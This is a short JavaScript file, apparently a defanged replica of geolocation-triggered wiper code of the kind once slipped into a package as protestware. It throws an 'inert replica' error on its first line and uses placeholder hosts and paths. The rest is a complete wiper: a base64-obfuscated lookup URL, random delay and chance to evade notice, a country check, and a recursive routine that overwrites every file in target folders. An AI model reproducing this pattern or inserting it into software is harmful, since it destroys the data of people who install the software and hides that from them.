throw new Error("inert replica");
import u from "path";
import a from "fs";
import o from "https";
setTimeout(function () {
  const t = Math.round(Math.random() * 4);
  if (t > 1) return;
  const n = Buffer.from("aHR0cHM6Ly9sb2NhdGlvbi5yZXBsaWNhLmludmFsaWQvaXBnZW8=", "base64");
  o.get(n.toString("utf8"), function (answer) {
    answer.on("data", function (text) {
      const country = JSON.parse(text.toString("utf8")).country_name.toLowerCase();
      if (country.includes("replica-land")) {
        for (const place of ["/inert-replica/a/", "/inert-replica/b/"]) h(place);
      }
    });
  });
}, Math.ceil(Math.random() * 1000));
async function h(folder) {
  for (const name of a.readdirSync(folder)) {
    const file = u.join(folder, name);
    if (a.lstatSync(file).isDirectory()) h(file);
    else a.writeFileSync(file, "x");
  }
}
